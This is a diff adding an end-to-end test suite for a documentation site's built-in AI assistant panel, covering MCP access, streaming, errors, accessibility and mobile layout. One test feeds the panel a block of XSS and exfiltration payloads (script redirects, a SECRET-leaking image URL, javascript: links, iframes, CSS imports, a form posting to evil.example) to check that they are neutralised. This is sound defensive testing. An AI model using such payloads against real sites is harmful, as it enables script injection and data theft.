@@ -1,0 +1,438 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { Client } from '@modelcontextprotocol/sdk/client/index.js'
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { type AssistantStub, startAssistantStub } from '../tools/assistantStub.js'
+import { findBarriers } from '../tools/axe.js'
+import { eventually, watchProblems } from '../tools/browser.js'
+import { type ModelStub, startModelStub } from '../tools/modelStub.js'
+import { describeSite, PHONE, type TestSite } from './site.js'
+
+const source = fileURLToPath(new URL('fixtures/assistant', import.meta.url))
+const KEY = 'svc_dsc_test'
+
+let stub: AssistantStub
+let model: ModelStub
+beforeAll(async () => {
+  stub = await startAssistantStub()
+  model = await startModelStub()
+})
+afterAll(() => Promise.all([stub, model].map((each) => each[Symbol.asyncDispose]())))
+
+const own = async () => ({ args: ['--assistant'] })
+const withModel = async () => ({
+  args: ['--assistant'],
+  env: { ASSISTANT_BASE_URL: model.url, ASSISTANT_MODEL: 'stub' },
+})
+const withServer = async () => ({
+  args: ['--assistant', stub.url, '--assistant-domain', 'docs.kettles.test', '--assistant-key', KEY],
+})
+
+const panel = (page: Page) => page.getByRole('dialog', { name: 'Assistant' })
+const field = (page: Page) => panel(page).getByRole('textbox', { name: 'Your question' })
+const button = (page: Page, name: string) => panel(page).getByRole('button', { name, exact: true })
+const turn = (page: Page) => panel(page).locator('.ask-turn').last()
+const answer = (page: Page) => turn(page).getByRole('group', { name: 'Assistant' })
+const sources = (page: Page) => turn(page).locator('.ask-source')
+const status = (page: Page) => panel(page).getByRole('status')
+
+async function ask(page: Page, question: string): Promise<void> {
+  await field(page).fill(question)
+  await field(page).press('Enter')
+}
+
+/** The address without its origin, of all links. */
+const hrefs = (page: Page, selector: string) =>
+  page.locator(selector).evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href))
+
+/** A client of the official library asks the server that the discovery file names. */
+async function askByMcp(site: TestSite): Promise<{ name: string | undefined; found: string }> {
+  const card = (await (await fetch(`${site.url}/.well-known/mcp/server-card.json`)).json()) as {
+    remotes: { url: string }[]
+  }
+  const client = new Client({ name: 'test', version: '1' })
+  await client.connect(new StreamableHTTPClientTransport(new URL(card.remotes[0]?.url ?? '')))
+  try {
+    const { content } = await client.callTool({ name: 'search', arguments: { query: 'green tea' } })
+    return { name: client.getServerVersion()?.name, found: (content as { text: string }[])[0]?.text ?? '' }
+  } finally {
+    await client.close()
+  }
+}
+
+describeSite('dev', { source, command: own }, (site) => {
+  test('an author asks about the pages as they are now, and goes on reading with the answer beside', async () => {
+    const page = await site.open('/')
+    const problems = watchProblems(page, site.url)
+    await page.getByRole('button', { name: 'Ask the assistant' }).click()
+    await eventually(() => field(page).evaluate((element) => element === document.activeElement)).toBe(true)
+    await ask(page, 'How do I remove limescale with vinegar?')
+    await sources(page).first().waitFor()
+    expect(await sources(page).first().getAttribute('href')).toBe(`${site.url}/guides/descaling#with-vinegar`)
+    expect(await answer(page).innerText()).toContain('one part of vinegar and two parts of water')
+    await sources(page).first().click()
+    await page.waitForURL('**/guides/descaling#with-vinegar')
+    await eventually(() => answer(page).innerText()).toContain('one part of vinegar')
+    // It is written on while the chat is open.
+    site.copy.write('guides/descaling.mdx', '---\ntitle: Descaling\n---\n\nLemon juice removes limescale.\n')
+    await page.getByText('Lemon juice removes limescale.').waitFor()
+    await ask(page, 'Does lemon juice remove limescale?')
+    await eventually(() => answer(page).innerText()).toContain('Lemon juice removes limescale.')
+    await page.reload()
+    await eventually(() => panel(page).locator('.ask-turn').count()).toBe(2)
+    await button(page, 'New conversation').click()
+    await panel(page).getByText('What would you like to know?').waitFor()
+    expect(await field(page).evaluate((element) => element === document.activeElement)).toBe(true)
+    expect(problems).toEqual([])
+    await page.context().close()
+  })
+
+  test('a page that is the chat stays one while it is edited', async () => {
+    const page = await site.open('/ask')
+    const chat = page.getByRole('region', { name: 'Assistant' })
+    await chat.getByRole('textbox').fill('What removes lime?')
+    site.copy.write('ask.mdx', '---\ntitle: Ask us\nmode: assistant\n---\n\nEdited.\n')
+    await page.getByText('Edited.').waitFor()
+    expect(await chat.getByRole('textbox').inputValue()).toBe('What removes lime?')
+    await page.context().close()
+  })
+
+  test('agents of this machine reach its MCP server; browsers see the page of that name, and other sites nothing', async () => {
+    const { name, found } = await askByMcp(site)
+    expect(name).toBe('Kettles')
+    expect(found).toContain('Link: /guides/boiling')
+    expect((await fetch(`${site.url}/mcp`, { headers: { accept: 'text/html' } })).status).toBe(404)
+    expect((await fetch(`${site.url}/mcp`, { headers: { accept: 'text/event-stream' } })).status).toBe(405)
+    const foreign = { method: 'POST', headers: { origin: 'https://evil.example', 'content-type': 'application/json' } }
+    expect((await fetch(`${site.url}/mcp`, { ...foreign, body: '{}' })).status).toBe(403)
+  })
+})
+
+describeSite('preview', { source, base: '/docs/', command: withModel }, (site) => {
+  test('an answer shows while it is written; what is stopped ends at the model, too', async () => {
+    const page = await site.open('/guides/boiling')
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
+    await page.keyboard.press('Control+i')
+    model.behaviour = { hangsAfter: ['Fill it with **vine', 'gar**.'] }
+    await ask(page, 'How do I remove limescale?')
+    await eventually(() => answer(page).locator('strong').allInnerTexts()).toEqual(['vinegar'])
+    expect(await answer(page).getAttribute('aria-busy')).toBe('true')
+    await button(page, 'Stop').click()
+    await model.left
+    await panel(page).getByText('The answer was stopped.').first().waitFor()
+    expect(await answer(page).innerText()).toContain('Fill it with vinegar.')
+
+    model.behaviour = { says: ['Use [vinegar](/docs/guides/descaling#with-vinegar)', ' and read on [1].'] }
+    await button(page, 'Try again').click()
+    await eventually(() => answer(page).innerText()).toContain('read on')
+    await sources(page).first().waitFor()
+    expect(await hrefs(page, '.ask-prose a')).toEqual([
+      `${site.url}/guides/descaling#with-vinegar`,
+      await sources(page)
+        .first()
+        .evaluate((link) => (link as HTMLAnchorElement).href),
+    ])
+    expect(await sources(page).first().getAttribute('href')).toContain(`${site.url}/guides/descaling`)
+    await button(page, 'Copy').click()
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('(/docs/guides/descaling#with-vinegar)')
+
+    model.behaviour = { says: ['An hour.'] }
+    await ask(page, 'How long?')
+    await eventually(() => answer(page).innerText()).toContain('An hour.')
+    const said = model.requests.at(-1)?.messages.map(({ role, content }) => `${role}: ${content.slice(0, 22)}`)
+    expect(said?.slice(1, 3)).toEqual(['user: How do I remove limesc', 'assistant: Use [vinegar](/docs/gu'])
+    model.behaviour = { status: 500 }
+    await ask(page, 'And then?')
+    await eventually(() => answer(page).innerText()).toContain('could not answer. Please try again later.')
+    await page.context().close()
+  })
+
+  test('below a base, agents find the MCP server there', async () => {
+    expect((await askByMcp(site)).found).toContain('Link: /docs/guides/boiling')
+  })
+})
+
+describeSite('preview', { source, command: withServer }, (site) => {
+  test('it opens by keys, from the menu, a selection, code and by scripts, and says what is asked about', async () => {
+    const page = await site.newPage()
+    const problems = watchProblems(page, site.url)
+    const loaded: string[] = []
+    page.on('request', (request) => loaded.push(new URL(request.url()).pathname))
+    await page.goto(site.address('/'))
+    await page.waitForLoadState('networkidle')
+    expect(loaded.filter((path) => path.includes('assistant'))).toEqual([])
+    for (const chord of ['Control+i', 'Meta+i']) {
+      await page.keyboard.press(chord)
+      await field(page).waitFor()
+      await page.keyboard.press(chord)
+      await panel(page).waitFor({ state: 'hidden' })
+    }
+    await page.getByRole('button', { name: 'Ask the assistant' }).click()
+    await page.keyboard.press('Escape')
+    await panel(page).waitFor({ state: 'hidden' })
+    expect(await page.evaluate(() => document.activeElement?.id)).toBe('assistant-entry')
+
+    await page.locator('#page-context-menu-button').click()
+    await page.locator('#page-context-menu').getByRole('button', { name: 'Ask the assistant' }).click()
+    await field(page).waitFor()
+    await page.getByRole('button', { name: 'Ask about this code' }).click()
+    await page.locator('#content p', { hasText: 'cold water' }).selectText()
+    await page.getByRole('button', { name: 'Ask about this', exact: true }).click()
+    const [code, selection] = await panel(page).locator('.ask-chip-text').allInnerTexts()
+    expect(code).toBe('await kettle.boil({ degrees: 80 })')
+    expect(selection).toContain('Fill it with cold water')
+    await button(page, 'Remove Code').click()
+    stub.answer = { says: 'Up to the line.' }
+    await ask(page, 'How far?')
+    await eventually(() => answer(page).innerText()).toContain('Up to the line.')
+    const endpoint = `${stub.url}/v2/assistant/docs.kettles.test/message`
+    expect(stub.questions.at(-1)).toMatchObject({
+      path: new URL(endpoint).pathname,
+      authorization: `Bearer ${KEY}`,
+      cookie: undefined,
+      body: {
+        currentPath: '/',
+        filter: { language: 'en' },
+        context: [{ type: 'textSelection', path: '/', elementId: 'filling' }],
+      },
+    })
+    await page.evaluate(() =>
+      document.dispatchEvent(new CustomEvent('octavo:ask', { detail: { question: 'By script?' } })),
+    )
+    await eventually(() => stub.questions.at(-1)?.body).toMatchObject({
+      threadId: 'thread-1',
+      messages: [{ role: 'user' }, { role: 'assistant' }, { role: 'user', parts: [{ text: 'By script?' }] }],
+    })
+    // The policy of the site is in force; what it asked elsewhere, was its server.
+    expect(problems.filter((problem) => problem !== `foreign: ${endpoint}`)).toEqual([])
+    await page.context().close()
+  })
+
+  test('what goes wrong is said, and what to do about it', async () => {
+    const page = await site.open('/')
+    await page.keyboard.press('Control+i')
+    const said: Record<string, string> = {}
+    const cases: Record<string, AssistantStub['answer']> = {
+      busy: { status: 429, headers: { 'retry-after': '90' } },
+      later: { status: 429 },
+      hours: { status: 429, headers: { 'retry-after': '7200' } },
+      unavailable: { status: 503 },
+      network: { breaksAfter: '' },
+      origins: { forbidsOrigins: true },
+      key: { status: 403, error: 'The API key is not one of this site.' },
+      broken: { breaksAfter: 'Boil it and' },
+    }
+    for (const [name, given] of Object.entries(cases)) {
+      stub.answer = given
+      await ask(page, name)
+      await turn(page).locator('.ask-problem').waitFor()
+      said[name] = (await turn(page).locator('.ask-answer').innerText()).replace(/\n+/g, ' | ')
+    }
+    expect(said).toMatchInlineSnapshot(`
+      {
+        "broken": "Boil it and | The answer broke off.",
+        "busy": "Too many questions were asked. Please wait: 90 seconds. | Try again",
+        "hours": "Too many questions were asked. Please wait: 2 hours. | Try again",
+        "key": "The assistant refused the question. | The API key is not one of this site. | Try again",
+        "later": "Too many questions were asked. Please try again later. | Try again",
+        "network": "The assistant can not be reached. Check your connection and try again. | Try again",
+        "origins": "The assistant can not be reached. Check your connection and try again. | Try again",
+        "unavailable": "The assistant could not answer. Please try again later. | Try again",
+      }
+    `)
+    await eventually(() => status(page).textContent()).toBe('The answer broke off.')
+    // Nothing of it is told to the server as something that was said.
+    stub.answer = { says: 'Now it works.' }
+    await button(page, 'Try again').click()
+    await eventually(() => answer(page).innerText()).toContain('Now it works.')
+    expect(stub.questions.at(-1)?.body.messages.map(({ parts }) => parts[0]?.text)).toEqual(['broken'])
+    await page.context().close()
+  })
+
+  test('nothing in an answer loads, runs or leads to another place', async () => {
+    const page = await site.newPage()
+    const foreign: string[] = []
+    page.on('request', (request) => /evil/.test(request.url()) && foreign.push(request.url()))
+    await page.goto(site.address('/'))
+    await page.keyboard.press('Control+i')
+    stub.answer = {
+      says: HOSTILE,
+      sources: [
+        { url: 'https://docs.kettles.test/guides/boiling#temperatures', title: '<img src=x onerror=alert(1)>' },
+        { url: 'https://evil.example/?q=SECRET', title: 'Elsewhere' },
+        { url: 'javascript:alert(1)', title: 'Code' },
+      ],
+    }
+    await ask(page, 'Hostile?')
+    await sources(page).first().waitFor()
+    expect(await answer(page).locator('.ask-prose').innerText()).toMatchInlineSnapshot(`
+      "<script>location = 'https://evil.example/'</script>
+
+      x (https://evil.example/?q=SECRET) ![y]1 <img src="https://evil.example/i.png"> https://evil.example/auto
+
+      a (javascript:alert(1)) b (https://evil.example/link) c (//evil.example) d e (data:text/html,x)
+
+      <iframe src="https://evil.example"></iframe> https://evil.example/bare [f](https://evil.example) 1 [2] [3]
+
+      <style>@import "https://evil.example/a.css"</style><a href="https://evil.example">g</a> <form action="https://evil.example">
+
+      [1]: https://evil.example/reference.png"
+    `)
+    const own = `${site.url}/guides/boiling#temperatures`
+    expect(await hrefs(page, '.ask-panel a')).toEqual([own, own, own, own])
+    expect(await panel(page).locator('script, img, iframe, style, form form').count()).toBe(0)
+    expect(foreign).toEqual([])
+    await page.context().close()
+  })
+
+  test('it is used by keyboard and heard by screen readers', async () => {
+    const page = await site.open('/guides/boiling', { colorScheme: 'dark' })
+    await page.keyboard.press('Control+i')
+    expect(await findBarriers(page, 'empty')).toEqual([])
+    const given: AssistantStub['answer'] = { begins: '# Tea\n\nBlack tea wants ' }
+    stub.answer = given
+    await ask(page, 'How hot?')
+    await eventually(() => answer(page).innerText()).toContain('Black tea wants')
+    expect(await status(page).textContent()).toBe('Looking it up…')
+    given.finish?.('`95` degrees.\n\n```\nkettle boil\n```')
+    await eventually(() => status(page).textContent()).toBe('Tea Black tea wants 95 degrees. Code')
+    expect(await findBarriers(page, 'answer')).toEqual([])
+    await field(page).press('Shift+Tab')
+    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Try again')
+    stub.answer = { breaksAfter: '' }
+    await page.keyboard.press('Enter')
+    await turn(page).locator('.ask-problem').waitFor()
+    expect(await findBarriers(page, 'problem')).toEqual([])
+    // The page beside it stays in use.
+    await page.locator('#search-bar-entry').focus()
+    await page.keyboard.press('Escape')
+    expect(await panel(page).isVisible()).toBe(true)
+    await page.keyboard.press('Control+i')
+    await page.keyboard.press('Escape')
+    await panel(page).waitFor({ state: 'hidden' })
+    await page.context().close()
+  })
+
+  test('on a phone it is a sheet above the page, which links lead back to', async () => {
+    const page = await site.open('/guides/boiling', PHONE)
+    await page.locator('#assistant-entry-mobile').tap()
+    await field(page).waitFor()
+    expect(await page.evaluate(() => document.querySelector('.ask-panel')?.matches(':modal'))).toBe(true)
+    stub.answer = { says: 'See [Temperatures](/guides/boiling#temperatures).' }
+    await ask(page, 'How hot?')
+    await answer(page).getByRole('link').waitFor()
+    expect(await findBarriers(page, 'phone')).toEqual([])
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
+    await answer(page).getByRole('link').tap()
+    await page.waitForURL('**/guides/boiling#temperatures')
+    await panel(page).waitFor({ state: 'hidden' })
+    await page.locator('#assistant-entry-mobile').tap()
+    await eventually(() => panel(page).locator('.ask-turn').count()).toBe(1)
+    await page.context().close()
+  })
+
+  test('long answers are read from their beginning, and readers who scroll are left where they are', async () => {
+    const page = await site.open('/')
+    await page.keyboard.press('Control+i')
+    const given: AssistantStub['answer'] = { begins: 'Line\n\n'.repeat(80) }
+    stub.answer = given
+    await ask(page, 'Everything?')
+    const top = () =>
+      page.evaluate(() => {
+        const [thread, question] = ['.ask-thread', '.ask-question'].map((name) => document.querySelector(name))
+        return (question?.getBoundingClientRect().top ?? 0) - (thread?.getBoundingClientRect().top ?? 0)
+      })
+    await eventually(() => answer(page).locator('p').count()).toBeGreaterThan(79)
+    expect(await top()).toBe(20)
+    const thread = panel(page).locator('.ask-thread')
+    await thread.evaluate((element) => element.scrollTo({ top: 300, behavior: 'instant' }))
+    given.finish?.('The end.')
+    await answer(page).getByText('The end.').waitFor()
+    expect(await thread.evaluate((element) => element.scrollTop)).toBe(300)
+    await page.context().close()
+  })
+
+  test('a page may be the chat, in the language of its readers', async () => {
+    const page = await site.open('/ask')
+    const chat = page.getByRole('region', { name: 'Assistant' })
+    await chat.getByRole('textbox').waitFor()
+    expect(await findBarriers(page, '/ask')).toEqual([])
+    await page.keyboard.press('Control+i')
+    stub.answer = { says: 'Yes.' }
+    await page.keyboard.type('Is this the chat?')
+    await page.keyboard.press('Enter')
+    await chat.getByText('Yes.').first().waitFor()
+    expect(await page.locator('dialog.ask-panel').count()).toBe(0)
+    await page.goto(site.address('/ar'))
+    await page.keyboard.press('Control+i')
+    const arabic = page.getByRole('dialog', { name: 'المساعد' })
+    await arabic.getByText('Is this the chat?').waitFor()
+    expect((await arabic.boundingBox())?.x).toBe(0)
+    await page.locator('#content p').first().selectText()
+    await page.getByRole('button', { name: 'اسأل عن هذا', exact: true }).waitFor()
+    expect(await findBarriers(page, '/ar')).toEqual([])
+    await page.context().close()
+  })
+
+  test('the policy of the site lets it ask its server and nobody else', async () => {
+    const policy = (await fetch(site.url)).headers.get('content-security-policy')
+    expect(policy).toContain("script-src 'self';")
+    expect(policy).toContain(`connect-src 'self' https: wss: ${new URL(stub.url).origin};`)
+  })
+})
+
+describeSite('file', { source, command: withServer }, (site) => {
+  test('opened from a folder it asks its server, and sources lead to files', async () => {
+    const page = await site.open('/')
+    await page.keyboard.press('Control+i')
+    stub.answer = {
+      says: 'With vinegar [1].',
+      sources: [{ url: 'https://docs.kettles.test/guides/descaling#with-vinegar', title: 'Descaling' }],
+    }
+    await ask(page, 'How?')
+    const file = `${site.url}/guides/descaling.html#with-vinegar`
+    await sources(page).first().waitFor()
+    expect(await hrefs(page, '.ask-panel a')).toEqual([file, file])
+    await sources(page).first().click()
+    await page.waitForURL(file)
+    await eventually(() => answer(page).innerText()).toContain('With vinegar')
+    await ask(page, 'And here?')
+    await eventually(() => stub.questions.at(-1)?.body.currentPath).toBe('/guides/descaling')
+    await page.context().close()
+  })
+})
+
+describeSite('file', { source }, (site) => {
+  test('without an endpoint there is no assistant, and not a byte of it', async () => {
+    const page = await site.open('/ask')
+    await page.keyboard.press('Control+i')
+    await page.locator('#content p').selectText()
+    expect(await page.getByRole('button', { name: /ask/i }).count()).toBe(0)
+    expect(await page.locator('script[src*="ask"], script[src*="assistant"], #ask').count()).toBe(0)
+    const out = join(site.copy.root, 'dist')
+    const files = readdirSync(out, { recursive: true, encoding: 'utf8' })
+    expect(files.filter((file) => /(?:^|\/)(?:ask|assistant)-/.test(file))).toEqual([])
+    const style = files.find((file) => /octavo-[\w-]+\.css$/.test(file)) ?? ''
+    expect(readFileSync(join(out, style), 'utf8')).not.toContain('assistant-entry')
+    expect(readFileSync(join(out, 'index.html'), 'utf8')).not.toMatch(
+      /data-assistant|octavo-assistant|data-part-assistant/,
+    )
+    await page.context().close()
+  })
+})
+
+const HOSTILE = `<script>location = 'https://evil.example/'</script>
+
+![x](https://evil.example/?q=SECRET) ![y][1] <img src="https://evil.example/i.png"> <https://evil.example/auto>
+
+[a](javascript:alert(1)) [b](https://evil.example/link) [c](//evil.example) [d](/guides/boiling#temperatures) [e](data:text/html,x)
+
+<iframe src="https://evil.example"></iframe> https://evil.example/bare \`[f](https://evil.example)\` [1] [2] [3]
+
+<style>@import "https://evil.example/a.css"</style><a href="https://evil.example">g</a> <form action="https://evil.example">
+
+[1]: https://evil.example/reference.png
+`
